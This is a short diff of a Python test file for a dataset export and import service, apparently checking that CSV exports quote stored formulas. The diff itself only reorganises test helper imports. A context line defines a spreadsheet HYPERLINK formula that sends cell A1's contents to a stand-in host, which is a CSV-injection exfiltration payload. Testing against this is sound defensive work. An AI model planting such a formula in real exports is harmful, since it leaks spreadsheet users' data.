@@ -19,8 +19,8 @@ from services.exchange.exporter import read_graph
 from services.exchange.formulas import restore
 from services.exchange.importer import import_dataset
 from services.exchange.writing import write_dataset
-from tests.factories import small_dataset, table_rows
-from tests.integration.api.conftest import Server, api_server  # noqa: F401 - a fixture
+from tests.support.factory import small_dataset, table_rows
+from tests.support.serving import Server
 
 Graph = tuple[Driver, str]
 HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"点此")'
@@ -70,7 +70,7 @@ def _rows_about(data: str, subject: str) -> list[list[str]]:
 
 def test_gap_reports_in_csv_quote_a_stored_formula(
     graph: Graph,
-    api_server: Server,  # noqa: F811 - the fixture
+    api_server: Server,
     tmp_path: Path,
 ) -> None:
     driver, database = graph
